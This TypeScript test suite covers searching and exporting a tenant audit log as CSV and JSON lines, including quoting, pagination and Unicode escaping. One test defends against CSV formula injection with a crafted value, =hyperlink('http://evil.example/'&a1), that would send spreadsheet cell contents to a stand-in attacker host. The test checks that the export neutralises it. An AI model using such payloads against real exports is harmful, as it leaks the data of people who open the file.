import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../../domain/actor.ts';
import { recordAudit } from '../../domain/audit/record-audit.ts';
import { ValidationError } from '../../domain/restrictions/errors.ts';
import { manualClock } from '../helpers/clock.ts';
import { createTestDatabase, createTestTenant, type TestDatabase, type TestTenant } from '../helpers/db.ts';
import { admin, secondAdmin, testServices } from '../helpers/services.ts';
import { limitRestriction } from './alert-fixtures.ts';

let database: TestDatabase;
const clock = manualClock('2026-11-26T10:00:00Z');
let services: ReturnType<typeof testServices>;

beforeAll(async () => {
  database = await createTestDatabase();
  services = testServices(database, clock);
});
afterAll(async () => database.close());

const tricky: Actor = { kind: 'user', id: 'oid-tricky', name: 'O"Brien, Pat\nSecond line', roles: ['Security Administrator', 'Global Reader'], source: 'graphql' };

/** Five records, one minute apart, from three actors. */
async function seed(tenant: TestTenant): Promise<void> {
  const entries: [Actor, string, string, string][] = [
    [admin, 'UpdateAlertPolicy', 'alertPolicy', 'Email sending limit exceeded'],
    [secondAdmin, 'Delisted', 'user', tenant.address('alice')],
    [tricky, 'UpdateAlertPolicy', 'alertPolicy', 'Policy, with "quotes"'],
    [admin, 'Listed', 'user', tenant.address('bob')],
    [admin, 'Delisted', 'user', tenant.address('bob')],
  ];
  for (const [i, [actor, action, targetKind, target]] of entries.entries()) {
    await recordAudit(database.db, {
      tenantId: tenant.id,
      actor,
      action,
      targetKind,
      target,
      before: i === 2 ? { dailyNotificationLimit: null } : null,
      after: i === 2 ? { dailyNotificationLimit: 5, note: 'a,b' } : null,
      at: new Date(Date.parse('2026-11-26T10:00:00Z') + i * 60_000),
    });
  }
}

async function collect(chunks: AsyncGenerator<string>): Promise<{ text: string; chunks: number }> {
  let text = '';
  let n = 0;
  for await (const chunk of chunks) {
    text += chunk;
    n += 1;
  }
  return { text, chunks: n };
}

/** A strict RFC 4180 reader: quoted fields, doubled quotes, CRLF record ends. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        const close = text.indexOf('"', i);
        if (close < 0) throw new Error('unterminated quoted field');
        field += text.slice(i, close);
        i = close + 1;
        if (text[i] !== '"') break;
        field += '"';
        i += 1;
      }
    } else {
      const match = /^[^",\r\n]*/.exec(text.slice(i));
      field = match?.[0] ?? '';
      i += field.length;
    }
    row.push(field);
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else {
      throw new Error(`unexpected ${JSON.stringify(text[i] ?? 'end of input')} at ${i}`);
    }
  }
  return rows;
}

describe('searching the audit log', () => {
  it('filters by actor, action, target and time range, newest first, in pages', async () => {
    const tenant = await createTestTenant(database);
    await seed(tenant);
    const targets = async (filter: Parameters<typeof services.auditQueries.search>[1]) => (await services.auditQueries.search(tenant.id, filter, {})).records.map((r) => `${r.action} ${r.target.split('@')[0]}`);

    expect(await targets({ actor: 'Megan' })).toEqual(['Delisted alice']);
    expect(await targets({ actor: admin.id })).toEqual(['Delisted bob', 'Listed bob', 'UpdateAlertPolicy Email sending limit exceeded']);
    expect(await targets({ action: 'Delisted' })).toEqual(['Delisted bob', 'Delisted alice']);
    expect(await targets({ target: 'BOB@' })).toEqual(['Delisted bob', 'Listed bob']);
    expect(await targets({ target: '%' })).toEqual([]);
    // An address in an internationalised domain is kept in ASCII; its UTF-8 spelling finds it too.
    const idn = await createTestTenant(database);
    await recordAudit(database.db, { tenantId: idn.id, actor: admin, action: 'Listed', targetKind: 'user', target: 'u9@xn--bcher-kva.example', before: null, after: null, at: new Date('2026-11-26T09:00:00Z') });
    const idnTargets = async (target: string) => (await services.auditQueries.search(idn.id, { target }, {})).records.map((r) => r.target);
    expect(await idnTargets('@BÜCHER.example')).toEqual(['u9@xn--bcher-kva.example']);
    expect(await idnTargets('xn--bcher')).toEqual(['u9@xn--bcher-kva.example']);
    expect(await idnTargets('ücher')).toEqual([]);
    expect(await targets({ from: new Date('2026-11-26T10:01:00Z'), to: new Date('2026-11-26T10:03:00Z') })).toEqual(['Listed bob', 'UpdateAlertPolicy Policy, with "quotes"', 'Delisted alice']);

    const first = await services.auditQueries.search(tenant.id, {}, { first: 2 });
    expect([first.records.length, first.totalCount, first.hasNextPage]).toEqual([2, 5, true]);
    const second = await services.auditQueries.search(tenant.id, {}, { first: 2, after: first.cursorOf(first.records[1]!) });
    const third = await services.auditQueries.search(tenant.id, {}, { first: 2, after: second.cursorOf(second.records[1]!) });
    expect([...first.records, ...second.records, ...third.records].map((r) => r.occurredAt.toISOString().slice(11, 16))).toEqual(['10:04', '10:03', '10:02', '10:01', '10:00']);
    expect(third.hasNextPage).toBe(false);
    await expect(services.auditQueries.search(tenant.id, {}, { first: 2, after: 'garbage' })).rejects.toBeInstanceOf(ValidationError);
    await expect(services.auditQueries.search(tenant.id, { from: new Date('2026-11-27'), to: new Date('2026-11-26') }, {})).rejects.toBeInstanceOf(ValidationError);
  });

  it('records restrictions, releases, alert status and policy changes', async () => {
    const tenant = await createTestTenant(database);
    await services.restrictions.restrict(limitRestriction(tenant.id, tenant.address('carl')));
    await services.unblock.release({ tenantId: tenant.id, entityKind: 'user', entityKey: tenant.address('carl'), reason: 'MFA on', acknowledgedRecommendations: [], actor: admin });
    await services.alertPolicies.update({ tenantId: tenant.id, policy: 'Sending limit nearly reached', dailyNotificationLimit: 10, actor: admin });
    const { records } = await services.auditQueries.search(tenant.id, {}, {});
    expect(records.map((r) => [r.action, r.actorName, r.result])).toEqual([
      ['UpdateAlertPolicy', 'Adele Vance', 'Success'],
      ['Delisted', 'Adele Vance', 'Success'],
      ['Listed', 'Sendguard policy', 'Success'],
    ]);
    expect(records[0]?.actorRoles).toEqual(['Security Administrator']);
  });
});

describe('exporting the audit log', () => {
  it('as CSV: a header row, RFC 4180 quoting, CRLF, oldest first, streamed page by page', async () => {
    const tenant = await createTestTenant(database);
    await seed(tenant);
    const { text, chunks } = await collect(services.auditQueries.exportLog(tenant.id, {}, 'csv', 2));
    expect(chunks).toBe(1 + 3);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(['id', 'occurredAt', 'tenantId', 'actorId', 'actorName', 'actorRoles', 'source', 'action', 'targetKind', 'target', 'result', 'before', 'after', 'details']);
    expect(rows.slice(1).map((r) => r[1])).toEqual(['10:00', '10:01', '10:02', '10:03', '10:04'].map((t) => `2026-11-26T${t}:00.000Z`));
    const [, , , actorId, actorName, actorRoles, source, action, , target, result, before, after] = rows[3] ?? [];
    expect([actorId, actorName, actorRoles, source, action, target, result]).toEqual(['oid-tricky', 'O"Brien, Pat\nSecond line', 'Security Administrator;Global Reader', 'graphql', 'UpdateAlertPolicy', 'Policy, with "quotes"', 'Success']);
    expect(JSON.parse(before ?? '')).toEqual({ dailyNotificationLimit: null });
    expect(JSON.parse(after ?? '')).toEqual({ dailyNotificationLimit: 5, note: 'a,b' });
    expect(text).toContain(',"O""Brien, Pat\nSecond line",Security Administrator;Global Reader,graphql,UpdateAlertPolicy,alertPolicy,"Policy, with ""quotes""",Success,"{""dailyNotificationLimit"":null}","{""note"":""a,b"",""dailyNotificationLimit"":5}",\r\n');
  });

  it('as JSON lines, with the same filter as the search', async () => {
    const tenant = await createTestTenant(database);
    await seed(tenant);
    const { text } = await collect(services.auditQueries.exportLog(tenant.id, { actor: admin.id }, 'jsonl', 2));
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines.map((l) => [l.occurredAt, l.action, l.actorId, l.tenantId])).toEqual([
      ['2026-11-26T10:00:00.000Z', 'UpdateAlertPolicy', admin.id, tenant.id],
      ['2026-11-26T10:03:00.000Z', 'Listed', admin.id, tenant.id],
      ['2026-11-26T10:04:00.000Z', 'Delisted', admin.id, tenant.id],
    ]);
    expect(lines[0]).toEqual({
      id: expect.any(Number),
      occurredAt: '2026-11-26T10:00:00.000Z',
      tenantId: tenant.id,
      actorId: admin.id,
      actorName: 'Adele Vance',
      actorRoles: ['Security Administrator'],
      source: 'test',
      action: 'UpdateAlertPolicy',
      targetKind: 'alertPolicy',
      target: 'Email sending limit exceeded',
      result: 'Success',
      before: null,
      after: null,
      details: null,
    });
  });

  it('as CSV, a value a spreadsheet would run as a formula starts with an apostrophe; JSON lines keep it as it is', async () => {
    const tenant = await createTestTenant(database);
    // A sender that is not authenticated is counted, and restricted, under the envelope sender it chose.
    const sender = `=hyperlink("http://evil.example/"&a1)@${tenant.domain}`;
    await services.restrictions.restrict(limitRestriction(tenant.id, sender));
    const actors: Actor[] = [
      { ...admin, id: '+1-555-0100', name: '@SUM(1+1)' },
      { ...admin, id: 'oid-tab', name: '\tTabbed' },
      { ...admin, id: 'oid-cr', name: '\rReturn' },
    ];
    for (const actor of actors) await recordAudit(database.db, { tenantId: tenant.id, actor, action: 'Listed', targetKind: 'user', target: `-2+3@${tenant.domain}`, at: clock.now() });

    const rows = parseCsv((await collect(services.auditQueries.exportLog(tenant.id, {}, 'csv'))).text);
    const column = (name: string) => rows.slice(1).map((r) => r[rows[0]?.indexOf(name) ?? -1]);
    expect(column('target')).toEqual([`'${sender}`, `'-2+3@${tenant.domain}`, `'-2+3@${tenant.domain}`, `'-2+3@${tenant.domain}`]);
    expect(column('actorId')).toEqual(['system:policy', "'+1-555-0100", 'oid-tab', 'oid-cr']);
    expect(column('actorName')).toEqual(['Sendguard policy', "'@SUM(1+1)", "'\tTabbed", "'\rReturn"]);
    // Only a first character makes a formula: the rest of a record is as it was.
    expect(JSON.parse(column('after')[0] ?? '')).toMatchObject({ entityKey: sender });

    const lines = (await collect(services.auditQueries.exportLog(tenant.id, {}, 'jsonl'))).text.trimEnd().split('\n').map((l) => JSON.parse(l) as { target: string; actorName: string });
    expect(lines.map((l) => [l.target, l.actorName])).toEqual([
      [sender, 'Sendguard policy'],
      [`-2+3@${tenant.domain}`, '@SUM(1+1)'],
      [`-2+3@${tenant.domain}`, '\tTabbed'],
      [`-2+3@${tenant.domain}`, '\rReturn'],
    ]);
  });

  it('as JSON lines, U+2028 and U+2029 in a value are escaped, so a consumer that splits lines on them still reads one record per line', async () => {
    const tenant = await createTestTenant(database);
    const sender = `line\u2028sep\u2029para@${tenant.domain}`;
    await services.restrictions.restrict(limitRestriction(tenant.id, sender));
    const reason = 'MFA on\u2028password reset\u2029done';
    await recordAudit(database.db, { tenantId: tenant.id, actor: { ...admin, name: 'Ad\u2028ele' }, action: 'Delisted', targetKind: 'user', target: sender, after: { reason }, at: clock.now() });

    const { text } = await collect(services.auditQueries.exportLog(tenant.id, {}, 'jsonl'));
    expect(text).not.toMatch(/[\u2028\u2029]/);
    expect(text).toContain('\\u2028');
    // What a line reader that also ends lines at U+2028/U+2029 (JavaScript's own, before ES2019) sees.
    const records = text.trimEnd().split(/\r\n|[\n\r\u2028\u2029]/).map((l) => JSON.parse(l) as { target: string; actorName: string; after: unknown });
    expect(records.map((r) => r.target)).toEqual([sender, sender]);
    expect(records[1]).toMatchObject({ actorName: 'Ad\u2028ele', after: { reason } });
  });

  it('as one text, its record count is the number of records it holds while records are being written, and never past the cap', async () => {
    const tenant = await createTestTenant(database);
    await seed(tenant);
    let writing = true;
    let written = 0;
    const writer = (async () => {
      while (writing) {
        await recordAudit(database.db, { tenantId: tenant.id, actor: admin, action: 'Listed', targetKind: 'user', target: tenant.address(`w${written}`), at: clock.now() });
        written += 1;
      }
    })();
    try {
      for (let i = 0; i < 5; i += 1) {
        const csv = await services.auditQueries.exportText(tenant.id, {}, 'csv');
        expect(csv.text.split('\r\n').length - 2).toBe(csv.count);
        const jsonl = await services.auditQueries.exportText(tenant.id, {}, 'jsonl');
        expect(jsonl.text.split('\n').length - 1).toBe(jsonl.count);
        // A cap the records reach while the export runs: refused, or an export within it.
        const cap = 5 + written + 1;
        const capped = await services.auditQueries.exportText(tenant.id, {}, 'jsonl', cap).catch((err: unknown) => err);
        if (!(capped instanceof ValidationError)) expect((capped as { text: string }).text.split('\n').length - 1).toBeLessThanOrEqual(cap);
      }
    } finally {
      writing = false;
      await writer;
    }
    expect(written).toBeGreaterThan(0);
  });

  it('an empty result is a header alone (CSV) or nothing (JSON lines)', async () => {
    const tenant = await createTestTenant(database);
    expect((await collect(services.auditQueries.exportLog(tenant.id, {}, 'csv'))).text).toBe('id,occurredAt,tenantId,actorId,actorName,actorRoles,source,action,targetKind,target,result,before,after,details\r\n');
    expect((await collect(services.auditQueries.exportLog(tenant.id, {}, 'jsonl'))).text).toBe('');
  });
});
